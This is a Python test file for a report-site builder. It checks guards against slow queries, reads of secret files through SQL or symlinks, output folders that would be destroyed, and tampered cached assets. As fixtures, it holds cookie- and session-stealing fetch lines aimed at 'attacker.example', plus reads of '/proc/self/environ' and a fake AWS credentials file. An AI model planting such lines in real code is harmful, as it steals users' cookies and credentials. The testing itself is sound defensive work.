"""The build's guards: query time limits, the locked DuckDB behind the SQL checks, data and SQL files
reached through links, the output folder, verified reuse and write errors."""

from __future__ import annotations

import errno
import hashlib
import os
from pathlib import Path

import duckdb
import pytest

from reportsite.build.builder import BuildOptions, build
from reportsite.cli import main as cli
from reportsite.errors import ReportError

ORDERS = """
title: "Orders"
data_source: sales.parquet
metrics:
  - name: Orders
    query: SELECT count(*) AS value FROM sales
"""


def problems(root: Path, *args: str) -> list[str]:
    try:
        build(root, BuildOptions(out=root / "_site", **dict.fromkeys(args, True)))  # type: ignore[arg-type]
    except ReportError as exc:
        return [str(p) for p in exc.problems]
    return []


def files_of(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


# ---------------------------------------------------------------- time limits


def test_a_query_past_the_time_limit_is_stopped_with_a_located_message(make_project, sample_data) -> None:
    root = make_project({"slow.yaml": """
        title: Slow
        data_source: sales.parquet
        metrics:
          - name: Cross join
            query: SELECT sum(a.range * b.range) AS value FROM range(400000) a, range(400000) b
        tables:
          - name: Rows
            query: SELECT a.range FROM range(400000) a, range(400000) b WHERE a.range + b.range < 0
        """}, site_yaml=f'data_root: "{sample_data}"\nquery_timeout_seconds: 0.5\n')

    found = problems(root)

    limit = ("stopped after 0.5 s, the limit for one query (query_timeout_seconds in site_src/site.yaml); "
             "aggregate or filter earlier in the SQL, or raise the limit")
    assert found == [f"reports/slow.yaml:5:5 metrics[0].query: metric 'Cross join': {limit}",
                     f"reports/slow.yaml:8:5 tables[0].query: table 'Rows': {limit}"]
    assert not (root / "_site").exists()


def test_a_data_check_past_the_time_limit_is_stopped_at_its_key(make_project, tmp_path) -> None:
    data = tmp_path / "big"
    data.mkdir()
    duckdb.execute(f"COPY (SELECT range AS id, range % 97 AS k FROM range(6000000)) TO '{data / 'big.parquet'}'")
    # No query of its own: under a loaded machine even a count(*) can miss a 0.05 s limit; only the check is timed.
    root = make_project({"big.yaml": """
        title: Big
        data_source: big.parquet
        text: "The check alone runs a query."
        checks:
          - table: big
            unique: [id, k]
        """}, site_yaml=f'data_root: "{data}"\nquery_timeout_seconds: 0.05\n')

    assert problems(root) == [
        "reports/big.yaml:6:5 checks[0].unique: check on table 'big': stopped after 0.05 s, the limit for one query "
        "(query_timeout_seconds in site_src/site.yaml); aggregate or filter earlier in the SQL, or raise the limit"]


# ---------------------------------------------------------------- the lock holds without sqlpolicy


def test_the_locked_connection_refuses_what_sqlpolicy_would_if_it_missed_it(make_project, sample_data,
                                                                           monkeypatch) -> None:
    from reportsite.query import sqlpolicy

    monkeypatch.setattr(sqlpolicy, "review", lambda sql, tables: [])  # every caller reviews through it
    other = sample_data / "customers.csv"
    root = make_project({"leak.yaml": f"""
        title: Leak
        data_source: sales.parquet
        tables:
          - name: Env
            query: SELECT * FROM read_text('/proc/self/environ')
          - name: Other
            query: SELECT * FROM '{other}'
          - name: Settings
            query: SET memory_limit = '64GB'
        """}, data_root=sample_data)

    assert problems(root) == [
        "reports/leak.yaml:5:36 tables[0].query: table 'Env': reading '/proc/self/environ' is not allowed: a query "
        "can read only the report's data sources (SQL line 1, column 25)",
        f"reports/leak.yaml:7:26 tables[1].query: table 'Other': reading '{other}' is not allowed: a query can "
        "read only the report's data sources (SQL line 1, column 15)",
        "reports/leak.yaml:9:12 tables[2].query: table 'Settings': changing DuckDB settings is not allowed: a query "
        "must be one read-only SELECT (or WITH … SELECT, VALUES, FROM …) (SQL line 1, column 1)",
    ]


# ---------------------------------------------------------------- links to what is not data


def test_data_and_sql_files_reached_through_links_to_secrets_are_refused(make_project, sample_data, tmp_path) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "real").mkdir()
    (data / "real" / "sales.parquet").write_bytes((sample_data / "sales.parquet").read_bytes())
    (data / "sales.parquet").symlink_to(data / "real" / "sales.parquet")  # a link within the data root is fine
    (data / "env.csv").symlink_to("/proc/self/environ")
    hidden = tmp_path / ".aws"
    hidden.mkdir()
    (hidden / "credentials").write_text("aws_access_key_id,aws_secret_access_key\nAKIA,secret\n")
    (data / "keys.csv").symlink_to(hidden / "credentials")
    root = make_project({"links.yaml": """
        title: Links
        data_sources:
          sales: sales.parquet
          env: env.csv
          keys: keys.csv
        tables:
          - name: Orders
            query: SELECT count(*) AS n FROM sales
          - name: Query
            query: leak.sql
        """}, data_root=data)
    (root / "reports" / "leak.sql").symlink_to("/proc/self/environ")

    assert problems(root) == [
        "reports/links.yaml:10:5 tables[1].query: SQL file 'leak.sql' leads outside reports/ (to "
        "/proc/self/environ); keep .sql files beside the report"]

    (root / "reports" / "leak.sql").unlink()
    (root / "reports" / "leak.sql").write_text("SELECT * FROM keys")
    assert problems(root) == [
        f"reports/links.yaml:4:3 data_sources.env: data source 'env.csv': '{data / 'env.csv'}' leads to "
        "/proc/self/environ, a system file; a data source must be a data file",
        f"reports/links.yaml:5:3 data_sources.keys: data source 'keys.csv': '{data / 'keys.csv'}' leads to "
        f"{hidden / 'credentials'}, inside the hidden folder or file '.aws'; name hidden locations in the report "
        "if they really hold data",
    ]


def test_a_source_that_would_walk_the_whole_disk_stops_early(make_project, monkeypatch, tmp_path) -> None:
    from reportsite.sources import local

    monkeypatch.setattr(local, "MAX_LISTED", 50)
    disk = tmp_path / "disk"
    for number in range(60):
        (disk / f"d{number % 7}").mkdir(parents=True, exist_ok=True)
        (disk / f"d{number % 7}" / f"f{number}.txt").write_text("x")
    root = make_project({"all.yaml": ORDERS.replace("sales.parquet", str(disk))}, data_root=tmp_path / "data")

    assert problems(root) == [f"reports/all.yaml:2:1 data_source: data source '{disk}' holds more than 50 "
                              "files; name the folder or glob that holds just the data"]


# ---------------------------------------------------------------- the output folder


@pytest.mark.parametrize(("out", "says"), [
    (".", "--out {root}: is the project folder; "),
    ("..", "--out {root}/..: is a folder that holds the project; "),
    ("reports", "--out {root}/reports: is the reports folder ({root}/reports); "),
    ("site_src/out", "--out {root}/site_src/out: lies inside the site's templates ({root}/site_src); "),
    (".git", "--out {root}/.git: is the git repository ({root}/.git); "),
    ("data/site", "--out {root}/data/site: lies inside the data_root folder ({root}/data); "),
])
def test_build_refuses_an_output_folder_it_would_destroy(make_project, sample_data, out, says,
                                                         capsys, monkeypatch) -> None:
    import shutil

    root = make_project({"orders.yaml": ORDERS}, site_yaml='data_root: "data"\n')
    monkeypatch.chdir(root)  # --out is read from where the command runs
    shutil.copytree(sample_data, root / "data")
    (root / ".git").mkdir()
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    before = files_of(root)

    code = cli.main(["--project", str(root), "build", "--out", out])

    err = capsys.readouterr().err
    assert code == 1
    assert err.splitlines() == [
        "error: " + says.format(root=root) + "a build replaces its output folder, so choose a folder of its own "
        "(the default is _site)", "1 problem(s); nothing was written."]
    assert files_of(root) == before


def test_build_refuses_a_folder_of_other_files_and_a_file(make_project, sample_data, tmp_path, capsys) -> None:
    root = make_project({"orders.yaml": ORDERS}, data_root=sample_data)
    (tmp_path / "photos").mkdir()
    (tmp_path / "photos" / "holiday.jpg").write_bytes(b"\xff\xd8")
    (tmp_path / "notes.txt").write_text("keep me")

    assert cli.main(["--project", str(root), "build", "--out", str(tmp_path / "photos")]) == 1
    assert cli.main(["--project", str(root), "build", "--out", str(tmp_path / "notes.txt")]) == 1

    err = capsys.readouterr().err.splitlines()
    assert err[0] == (f"error: --out {tmp_path}/photos: the folder holds files and no manifest.json, so it is not a "
                      "reportsite build; a build replaces its output folder, so choose an empty or new one")
    assert err[2] == f"error: --out {tmp_path}/notes.txt: is a file, not a folder"
    assert (tmp_path / "photos" / "holiday.jpg").exists() and (tmp_path / "notes.txt").read_text() == "keep me"


@pytest.mark.parametrize("manifest", [
    '{"name": "Shop", "start_url": "/", "icons": []}',  # a web app's
    '{"manifest_version": 3, "name": "Helper", "version": "1.0"}',  # a browser extension's
    '{"format": 1, "name": "not ours"}',
])
def test_build_refuses_a_folder_whose_manifest_is_not_its_own(make_project, sample_data, tmp_path, capsys,
                                                               manifest) -> None:
    """Issue 23: any manifest.json let --out wipe the folder (web apps and extensions have one)."""
    root = make_project({"orders.yaml": ORDERS}, data_root=sample_data)
    app = tmp_path / "app"
    app.mkdir()
    (app / "manifest.json").write_text(manifest)
    (app / "index.js").write_text("keep me")

    assert cli.main(["--project", str(root), "build", "--out", str(app)]) == 1

    assert capsys.readouterr().err.splitlines()[0] == (
        f"error: --out {app}: the folder holds files and a manifest.json that reportsite did not write, so it is "
        "not a reportsite build; a build replaces its output folder, so choose an empty or new one")
    assert (app / "index.js").read_text() == "keep me"


def test_build_writes_into_an_empty_folder_and_over_its_own_site(make_project, sample_data, tmp_path) -> None:
    root = make_project({"orders.yaml": ORDERS}, data_root=sample_data)
    (tmp_path / "empty").mkdir()

    assert build(root, BuildOptions(out=tmp_path / "empty")).status == "ok"
    assert build(root, BuildOptions(out=tmp_path / "empty", full=True)).status == "ok"


# ---------------------------------------------------------------- verified reuse


def test_a_changed_page_in_the_site_is_rebuilt_not_carried(make_project, sample_data) -> None:
    root = make_project({"orders.yaml": ORDERS}, data_root=sample_data)
    build(root, BuildOptions(out=root / "_site"))
    site = root / "_site"
    good = files_of(site)
    page = site / "reports" / "orders.html"
    page.write_text(page.read_text().replace("Orders", "<script>steal()</script>"))
    logged: list[str] = []

    result = build(root, BuildOptions(out=site), log=logged.append)

    assert result.status == "ok" and [r.status for r in result.reports] == ["built"]
    assert ("note: _site/reports/orders.html differs from the previous build's manifest (changed since, or "
            "missing); it will be made again") in logged
    assert "steal()" not in page.read_text()
    assert files_of(site).keys() == good.keys()
    assert files_of(site)["reports/orders.html"] == good["reports/orders.html"]


def test_a_changed_index_or_asset_stops_the_nothing_changed_shortcut(make_project, sample_data) -> None:
    root = make_project({"orders.yaml": ORDERS}, data_root=sample_data)
    build(root, BuildOptions(out=root / "_site"))
    site = root / "_site"
    good = files_of(site)
    bundle = next((site / "assets").glob("vega.*.js"))
    bundle.write_text("alert('pwned')")

    result = build(root, BuildOptions(out=site))

    assert result.status == "ok"
    assert "pwned" not in bundle.read_text()
    assert {k: v for k, v in files_of(site).items() if k.startswith(("assets/", "reports/"))} == {
        k: v for k, v in good.items() if k.startswith(("assets/", "reports/"))}


def test_a_changed_vega_bundle_in_the_cache_is_made_again(make_project, sample_data, tool_cache) -> None:
    root = make_project({"orders.yaml": ORDERS}, data_root=sample_data)
    build(root, BuildOptions(out=root / "_site"))
    good = files_of(root / "_site")
    cached = next(tool_cache.glob("vega-*.js"))
    original = cached.read_bytes()
    cached.write_bytes(original + b"\n;fetch('https://attacker.example/?c='+document.cookie)")
    logged: list[str] = []

    try:
        build(root, BuildOptions(out=root / "_site", full=True), log=logged.append)
    finally:
        restored = cached.read_bytes() == original
        if not restored:
            cached.write_bytes(original)

    assert restored
    assert (f"note: the Vega bundle in the cache ({cached}) did not match the sha256 this version of reportsite "
            "knows; made it again") in logged
    assert {k: v for k, v in files_of(root / "_site").items() if k.startswith("assets/")} == {
        k: v for k, v in good.items() if k.startswith("assets/")}


def test_a_bundle_rewritten_with_its_recorded_sum_is_made_again(monkeypatch, tmp_path: Path) -> None:
    """Issue 23: a loader could rewrite the cached bundle and the .sha256 beside it; the package's own sum
    (VEGA_BUNDLE_SHA256) decides, and it is where no loader reaches."""
    from reportsite import integrity
    from reportsite.render import assets

    monkeypatch.setenv("REPORTSITE_TOOL_CACHE", str(tmp_path))
    genuine = assets.vega_bundle(tmp_path).content
    (cached,) = tmp_path.glob("vega-*.js")
    cached.write_bytes(genuine + b"\n;fetch('https://attacker.example/?k='+sessionStorage.key(0))")
    integrity.record(cached)  # the loader records the new sum too
    notes: list[str] = []

    again = assets.vega_bundle(tmp_path, notes).content

    assert again == genuine and cached.read_bytes() == genuine
    assert notes == [f"the Vega bundle in the cache ({cached}) did not match the sha256 this version of "
                     "reportsite knows; made it again"]


def test_the_pinned_bundle_sum_is_the_one_the_installed_vl_convert_makes(monkeypatch, tmp_path: Path) -> None:
    """A dependency update that changes the bundle fails here until its sum is pinned; a bundle that does not
    match the pin (an altered installation) is refused, not published."""
    import importlib.metadata

    import vl_convert

    from reportsite.errors import RenderError
    from reportsite.render import assets

    version = importlib.metadata.version("vl-convert-python")
    made = vl_convert.javascript_bundle().encode()  # type: ignore[call-arg]
    assert assets.VEGA_BUNDLE_SHA256.get(version) == hashlib.sha256(made).hexdigest()

    monkeypatch.setenv("REPORTSITE_TOOL_CACHE", str(tmp_path))
    monkeypatch.setitem(assets.VEGA_BUNDLE_SHA256, version, "0" * 64)
    with pytest.raises(RenderError, match="does not match the sha256 reportsite knows for it"):
        assets.vega_bundle(tmp_path)
    assert list(tmp_path.iterdir()) == []  # nothing half-made is left to be used


# ---------------------------------------------------------------- write errors


@pytest.mark.parametrize(("code", "reason"), [(errno.ENOSPC, "the disk is full"),
                                              (errno.EROFS, "the file system is read-only")])
def test_a_full_disk_or_read_only_folder_is_one_clear_line_and_the_old_site_stays(
        make_project, sample_data, monkeypatch, capsys, code, reason) -> None:
    root = make_project({"orders.yaml": ORDERS}, data_root=sample_data)
    build(root, BuildOptions(out=root / "_site"))
    before = files_of(root / "_site")
    real_write = Path.write_text

    def failing(self: Path, *args, **kwargs):  # type: ignore[no-untyped-def]
        if ".staging-" in str(self):
            raise OSError(code, os.strerror(code), str(self))
        return real_write(self, *args, **kwargs)

    monkeypatch.setattr(Path, "write_text", failing)

    exit_code = cli.main(["--project", str(root), "build", "--full"])

    err = capsys.readouterr().err
    errors = [line for line in err.splitlines() if line.startswith("error: ")]
    assert exit_code == 1
    assert "Traceback" not in err and "internal error" not in err
    assert len(errors) == 1
    assert errors[0].startswith(f"error: cannot write the site to {root / '_site'}: {reason} ({root}/.")
    assert errors[0].endswith("); nothing was changed there, the previous site (if any) is still in place")
    assert files_of(root / "_site") == before
    assert not list(root.glob(".*staging*"))


def test_names_of_300_characters_make_short_download_names(make_project, sample_data) -> None:
    long_name = "Revenue " + "x" * 300
    root = make_project({"long.yaml": f"""
        title: "{long_name}"
        data_source: sales.parquet
        tables:
          - name: "{long_name}"
            query: SELECT region, count(*) AS n FROM sales GROUP BY 1
        """}, data_root=sample_data)

    assert build(root, BuildOptions(out=root / "_site")).status == "ok"
    downloads = [p for p in (root / "_site" / "data" / "long").iterdir() if p.name != "delivery.json"]  # digests'
    assert sorted(len(p.name) for p in downloads) == [len("table-1-") + len("revenue-") + 52 + len(suffix)
                                                      for suffix in (".csv", ".xlsx")]
